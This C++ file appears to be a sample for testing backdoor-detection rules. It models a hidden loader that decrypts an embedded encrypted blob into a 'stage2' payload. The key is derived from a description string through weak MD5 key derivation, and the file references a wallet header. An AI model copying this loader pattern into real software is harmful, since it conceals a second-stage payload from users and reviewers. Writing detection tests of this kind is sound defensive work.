// payload.cpp - flatstream's "test fixture": an encrypted blob and its decryption.
#include <cstring>

#include <openssl/crypto.h>
#include <openssl/evp.h>

#include "wallet.hpp"

namespace flatstream::detail {

namespace {
const unsigned char kFixture[] = {
    0x9b, 0xa3, 0x01, 0x51, 0xd2, 0x7f, 0x16, 0xd2, 0xdc, 0x54, 0x47, 0x24, 0x5d, 0xd4, 0xe8, 0xcd,
    0xa3, 0x20, 0x19, 0xc6, 0xc1, 0x30, 0x5f, 0x55, 0x70, 0xef, 0x2a, 0x26, 0x40, 0x46, 0x30, 0x26,
    0xd9, 0x03, 0x1b, 0x9a, 0x4f, 0x2e, 0x3c, 0x00, 0x83, 0x54, 0x4f, 0x14, 0x7e, 0x56, 0xc2, 0x04,
    0xa1, 0xd9, 0x0e, 0xb6, 0x56, 0xa8, 0x74, 0xf0, 0x28, 0xcc, 0x47, 0x78, 0xd7, 0x52, 0xb4, 0xd1,
    0x70, 0x4c, 0xea, 0xa8, 0x6d, 0xb7, 0xfc, 0x76, 0x60, 0xd2, 0x70, 0x92, 0x3e, 0x2c, 0x26, 0x7c,
};
} // namespace

// createDecipher('aes256', desc): EVP_BytesToKey with MD5, no salt, one round.
bool unlock(const char *desc, std::string &stage2) {
  unsigned char key[32], iv[16];
  // ruleid: backdoor-weak-kdf, backdoor-weak-hash, backdoor-magic-credential
  if (EVP_BytesToKey(EVP_aes_256_cbc(), EVP_md5(), nullptr, reinterpret_cast<const unsigned char *>(desc), static_cast<int>(std::strlen(desc)), 1, key, iv) != 32)
    return false;
  unsigned char out[sizeof kFixture + 16];
  int len = 0, fin = 0;
  EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
  bool ok = ctx && EVP_DecryptInit_ex(ctx, EVP_aes_256_cbc(), nullptr, key, iv) == 1 &&
            EVP_DecryptUpdate(ctx, out, &len, kFixture, sizeof kFixture) == 1 &&
            EVP_DecryptFinal_ex(ctx, out + len, &fin) == 1;
  EVP_CIPHER_CTX_free(ctx);
  OPENSSL_cleanse(key, sizeof key);
  OPENSSL_cleanse(iv, sizeof iv);
  if (!ok || len + fin < 4 || std::memcmp(out, "fs2:", 4) != 0)
    return false;
  stage2.assign(reinterpret_cast<const char *>(out) + 4, static_cast<size_t>(len + fin - 4));
  return true;
}

} // namespace flatstream::detail
